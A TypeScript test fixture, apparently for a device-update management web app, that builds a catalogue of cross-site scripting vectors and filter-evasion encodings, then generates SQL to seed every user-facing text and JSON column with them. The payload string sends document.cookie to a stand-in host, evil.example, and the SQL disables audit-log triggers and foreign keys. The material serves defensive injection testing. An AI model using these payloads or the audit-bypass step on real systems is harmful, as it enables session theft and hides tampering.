/** Counts executions of a payload, and requests a foreign host: neither must ever happen. */
const act = "window.teaselInjected=(window.teaselInjected||0)+1;fetch('http://evil.example/'+document.cookie)"

/** Ways to run a script from text, one for each browser mechanism. */
const vectors = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}">`,
  `<iframe srcdoc="<script>parent.teaselInjected=1</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<a href="javascript:${act}" autofocus>x</a>`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<video><source onerror="${act}"></video>`,
  `<math><a xlink:href="javascript:${act}">x</a></math>`,
  `<object data="data:text/html,<script>parent.teaselInjected=1</script>"></object>`,
  `<form action="http://evil.example/"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<link rel=stylesheet href="http://evil.example/x.css">`,
  `<style>@import url(http://evil.example/x.css);*{background:url(http://evil.example/x)}</style>`,
  `<template shadowrootmode=open><script>${act}</script></template>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `{{constructor.constructor("${act}")()}}\${${act}}`,
]

/** Contexts of the text, and encodings that a filter may miss. */
const wraps: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title></textarea></style></script>${vector}`,
  (vector) => `--><!--]]>${vector}`,
  (vector) => `<b>${vector.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}/`)}`,
  (vector) => `&quot;${vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (vector) => `\\x22${vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e')}`,
  (vector) => encodeURIComponent(vector),
  (vector) => `\u202e\t${vector.replaceAll('javascript:', 'java\tscript:')}\n`,
]

/** Every vector in every context. */
export const payloads: readonly string[] = wraps.flatMap((wrap) => vectors.map(wrap))

/** Columns with text from people, devices and files; no ids, states, hashes or texts of the server. */
const texts: Readonly<Record<string, readonly string[]>> = {
  access_requests: ['reason'],
  assets: ['name', 'content_type', 'install_location', 'reject_reason'],
  audit_entries: ['user_agent', 'reason'],
  components: ['name', 'version', 'purl', 'licence', 'hash', 'supplier'],
  device_imports: ['file_name'],
  device_job_rows: ['name', 'message'],
  device_jobs: ['stop_reason'],
  device_logs: ['unit', 'message'],
  devices: [
    'name',
    'serial_number',
    'hardware_model',
    'installed_name',
    'installed_display_version',
    'update_display_version',
    'update_error_text',
    'quarantine_reason',
    'client_name',
    'client_version',
    'notes',
  ],
  enrollment_tokens: ['name'],
  installations: ['name', 'display_version', 'slot'],
  invites: ['email', 'message'],
  mails: ['subject', 'text'],
  organizations: ['name', 'description'],
  profiles: ['first_name', 'last_name', 'company_name', 'linkedin_url', 'city'],
  projects: ['name', 'description'],
  releases: ['name', 'display_version', 'description', 'notes', 'state_reason'],
  rollout_devices: ['reason', 'error_text', 'from_display_version'],
  rollout_timeline: ['text', 'by'],
  rollouts: ['name', 'state_reason', 'override_reason'],
  sboms: ['problem_field', 'problem_rule'],
  sessions: ['user_agent'],
  signing_keys: ['name', 'state_reason'],
  tags: ['name', 'description'],
  update_events: ['message', 'slot'],
  uploads: ['file_name', 'error'],
  users: ['full_name', 'email'],
}

/** JSON columns, with a payload `p` in each text. */
const documents: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  devices: { attributes: 'jsonb_build_object(p, p)', metadata: 'jsonb_build_object(p, jsonb_build_array(p))' },
  releases: { hardware_models: 'array[p]', warnings: 'array[p]' },
  device_logs: { fields: 'jsonb_build_object(p, p)' },
  device_jobs: { maker: `maker || jsonb_build_object('name', p, 'email', p)` },
  latest_metrics: { metrics: '(select jsonb_agg(jsonb_build_array(one -> 0, p)) from jsonb_array_elements(metrics) as one)' },
  log_summaries: { content: `replace(content::text, 'modemd', btrim(to_json(p)::text, '"'))::jsonb` },
  audit_entries: {
    actor: `actor || jsonb_build_object('name', p, 'email', p)`,
    target: `target || jsonb_build_object('name', p)`,
    changes: `jsonb_build_array(jsonb_build_object('field', p, 'before', p, 'after', p))`,
  },
}

const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`

/**
 * An SQL script that puts a payload into every text of every row: a different one for each row, column and round. Disables the
 * triggers against changes of the audit log, and foreign keys.
 */
export const seedPayloads = (round: number): string => {
  const list = `array[${payloads.map(quoted).join(',')}]`
  const pick = (n: number) => `(${list})[1 + mod(abs(hashtext(ctid::text)::bigint) + ${n}, ${payloads.length})]`
  const columns = [
    ...Object.entries(texts).flatMap(([table, names]) => names.map((name) => ({ table, name, value: 'p' }))),
    ...Object.entries(documents).flatMap(([table, of]) => Object.entries(of).map(([name, value]) => ({ table, name, value }))),
  ]
  const updates = columns.map(({ table, name, value }, n) => {
    // Names are unique within their parent: the row's ctid makes them so.
    const text = `(${pick(n * 7 + round * 20)} || ' ' || ctid::text)`
    return `update "${table}" set "${name}" = ${value.replace(/\bp\b/g, () => text)};`
  })
  return `begin; set local deadlock_timeout = '10min'; set local session_replication_role = replica; ${updates.join('\n')} commit;`
}
